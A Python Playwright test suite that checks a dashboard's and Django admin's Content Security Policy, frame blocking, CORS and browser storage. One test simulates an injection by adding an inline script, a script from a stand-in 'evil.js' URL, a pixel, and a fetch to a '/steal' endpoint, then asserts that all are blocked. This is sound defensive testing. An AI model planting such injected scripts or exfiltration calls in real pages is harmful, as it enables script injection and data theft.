"""The policies in a real browser: every page works under its own and reports no violation; what is foreign is blocked.

`page` fails a test whose pages log an error; that catches what a page does while it is loaded, too.
"""

from __future__ import annotations

from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from urllib.parse import unquote, urlsplit

import pytest
from playwright.sync_api import Error, Page, expect

from testing.cast import Person
from testing.process import Process
from testing.servers import server_process
from testing.stack import Stack
from tests.e2e.houses import in_thread
from tests.e2e.support import DashboardPage, Watch

pytestmark = pytest.mark.processes

COLLECT = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`));
"""
ADMIN_PAGES = [
    "/admin/", "/admin/auth_app/user/", "/admin/auth_app/user/add/", "/admin/auth_app/accesstoken/",
    "/admin/devices_app/device/", "/admin/devices_app/device/add/",
]  # fmt: skip


def make_staff(person: Person) -> None:
    person.user.is_staff = person.user.is_superuser = True
    person.user.save()


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.violations")
    return found


@pytest.fixture
def collecting(page: Page) -> Page:
    page.add_init_script(COLLECT)
    return page


def test_the_dashboard_and_the_form_work_under_their_policy(
    collecting: Page, dashboard: DashboardPage, owner: Person, house: str
) -> None:
    """'self' in connect-src covers the socket too."""
    collecting.goto(f"{dashboard.url}/login")
    assert violations(collecting) == []
    dashboard.sign_in(owner.username, owner.password)
    dashboard.wait_drawn("24h")
    dashboard.wait_live()
    assert violations(collecting) == []


def test_the_dashboard_stores_no_secret_in_the_browser(
    page: Page, dashboard: DashboardPage, owner: Person, house: str
) -> None:
    dashboard.sign_in(owner.username, owner.password)
    dashboard.wait_drawn("24h")
    dashboard.wait_live()
    kept: str = page.evaluate("JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie])")
    session = next(cookie for cookie in page.context.cookies() if cookie.get("name") == "sessionid")
    for secret in (session["value"], "wst_", owner.password, "load_power"):
        assert secret not in kept
    assert page.evaluate("indexedDB.databases()") == []


def test_the_admin_works_under_its_policy(collecting: Page, dashboard: DashboardPage, charlie: Person) -> None:
    in_thread(lambda: make_staff(charlie))
    dashboard.sign_in(charlie.username, charlie.password)
    for path in ADMIN_PAGES:
        collecting.goto(dashboard.url + path)
        expect(collecting.locator("#user-tools, #site-name").first).to_be_visible()
        assert violations(collecting) == [], path


def test_the_admins_scripts_run(collecting: Page, dashboard: DashboardPage, charlie: Person) -> None:
    in_thread(lambda: make_staff(charlie))
    dashboard.sign_in(charlie.username, charlie.password)
    collecting.goto(f"{dashboard.url}/admin/devices_app/grant/add/")
    shortcut = collecting.locator(".datetimeshortcuts a", has_text="Today").first
    shortcut.click()  # the scripts of the admin create it and handle its click
    expect(collecting.locator("input.vDateField").first).not_to_have_value("")
    collecting.goto(f"{dashboard.url}/admin/auth_app/user/")
    collecting.locator("#action-toggle").check()
    expect(collecting.locator("tr.selected").first).to_be_visible()
    assert violations(collecting) == []


def test_inline_and_foreign_content_is_blocked(collecting: Page, dashboard: DashboardPage, watch: Watch) -> None:
    """Content that an injection could add to a page."""
    collecting.goto(f"{dashboard.url}/login")
    collecting.evaluate("""async () => {
      const add = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields));
      add("script", { textContent: "window.wasRun = true" });
      add("script", { src: "http://127.0.0.1:9/evil.js" });
      add("img", { src: "http://127.0.0.1:9/pixel.png" });
      add("iframe", { src: "/login" });
      await fetch("http://127.0.0.1:9/steal").catch(() => undefined);
    }""")
    collecting.wait_for_function("window.violations.length >= 5")
    blocked = {violation.partition(" ")[0] for violation in violations(collecting)}
    assert blocked == {"script-src-elem", "img-src", "frame-src", "connect-src"}
    assert collecting.evaluate("window.wasRun") is None
    assert watch.problems, "the browser tells of what it blocked"
    watch.problems.clear()


class ForeignPage(BaseHTTPRequestHandler):
    """A page of another origin that frames the URL in its query."""

    def do_GET(self) -> None:
        body = f"<!doctype html><title>foreign</title><iframe src='{unquote(urlsplit(self.path).query)}'></iframe>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(body.encode())

    def log_message(self, *_: object) -> None:
        """Keep requests out of the output."""


@pytest.fixture
def foreign() -> Iterator[str]:
    """The origin of a foreign server."""
    with ThreadingHTTPServer(("127.0.0.1", 0), ForeignPage) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


def test_no_page_may_be_framed(page: Page, server: Process, foreign: str, watch: Watch) -> None:
    with page.expect_console_message(lambda message: "frame-ancestors" in message.text):
        page.goto(f"{foreign}/?{server.url}/login")
    expect(page.frame_locator("iframe").locator("#username")).to_have_count(0)
    watch.problems.clear()


READ = """async ([url, token]) => {
  const answer = await fetch(url, { headers: { Authorization: `Bearer ${token}` } });
  return { status: answer.status, tag: answer.headers.get("ETag"), body: await answer.json() };
}"""


def test_a_page_of_an_allowed_origin_reads_history_with_a_token(
    page: Page, stack: Stack, owner: Person, house: str, foreign: str, tmp_path: Path
) -> None:
    with server_process({**stack.env, "ALLOWED_ORIGINS": foreign}, tmp_path / "server.log") as server:
        page.goto(foreign)
        answer = page.evaluate(READ, [f"{server.url}/api/history/{house}?range=24h", owner.token])
    assert answer["status"] == 200
    assert answer["tag"]
    assert answer["body"]["device_id"] == house


def test_a_page_of_another_origin_cannot_read_history(
    page: Page, server: Process, owner: Person, house: str, foreign: str, watch: Watch
) -> None:
    page.goto(foreign)
    with pytest.raises(Error, match="Failed to fetch"):
        page.evaluate(READ, [f"{server.url}/api/history/{house}?range=24h", owner.token])
    assert any("blocked by CORS policy" in problem for problem in watch.problems)
    watch.problems.clear()
